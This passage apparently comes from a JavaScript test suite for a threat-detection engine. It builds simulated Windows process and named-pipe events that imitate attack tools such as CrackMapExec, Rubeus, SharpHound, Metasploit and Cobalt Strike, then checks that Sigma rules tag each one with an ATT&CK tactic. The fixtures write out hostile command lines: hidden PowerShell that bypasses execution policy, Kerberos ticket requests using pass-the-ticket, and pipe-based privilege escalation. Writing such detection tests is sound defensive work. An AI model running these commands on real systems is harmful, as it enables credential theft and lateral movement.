    u('CrackMapExec / NetExec target (wmiexec default)', [...LM, ...EX], procs(CMD, 'cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C "whoami" 1> \\Windows\\Temp\\AbCdEf 2>&1', `${S32}wbem\\WmiPrvSE.exe`)),
    u('Rubeus asktgt/kerberoast', CA, [...procs(`${TOOLS}Rubeus.exe`, 'Rubeus.exe kerberoast /outfile:h.txt'), ...procs(`${TOOLS}Rubeus.exe`, 'Rubeus.exe asktgt /user:admin /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt')]),
    u('Rubeus renamed', CA, procs('C:\\Users\\bob\\r.exe', 'r.exe asktgt /user:admin /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt')),
    u('SharpHound', DI, procs(`${TOOLS}SharpHound.exe`, 'SharpHound.exe -c All')),
    u('Metasploit psexec target (PowerShell payload service)', LM, procs(CMD, '%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b=\'powershell.exe\'}else{$b=$env:windir+\'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe\'};$s=New-Object System.Diagnostics.ProcessStartInfo"', `${S32}services.exe`, { User: SYS })),
    u('Metasploit getsystem', PE, procs(CMD, 'cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef', `${S32}services.exe`, { User: SYS })),
    u('Cobalt Strike spawnto rundll32 without arguments', [...DE, ...EX], procs(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe')),
    u('Cobalt Strike pipes', [...C2, ...LM, ...EX], [sm(17, { EventType: 'CreatePipe', PipeName: '\\MSSE-1234-server', Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\b.exe' }), sm(17, { EventType: 'CreatePipe', PipeName: '\\postex_ssh_1a2b', Image: `${S32}rundll32.exe` })]),
    u('Cobalt Strike status/msagent pipes', [...C2, ...LM], [sm(17, { EventType: 'CreatePipe', PipeName: '\\status_4f', Image: `${S32}rundll32.exe` }), sm(18, { EventType: 'ConnectPipe', PipeName: '\\msagent_4f', Image: `${S32}rundll32.exe` })]),
  ];
  const defaults = loadSigmaRules({ minLevel: 'informational' });
  const lookup = attackLookup();
  it('every unit is tagged with a technique of its tactic', () => {
    const untagged = units
      .filter((unit) => {
        const found = analyzeEvents(unit.events, { sigma: defaults }).detections?.summary() ?? [];
        return !found.some((d) => [...d.tactics, ...d.techniques.flatMap((x) => lookup.technique(x).tactics)].some((x) => unit.tactics.includes(x)));
      })
      .map((unit) => unit.name);
    expect(untagged).toEqual([]);
    expect(units.length).toBe(94);
  });
});
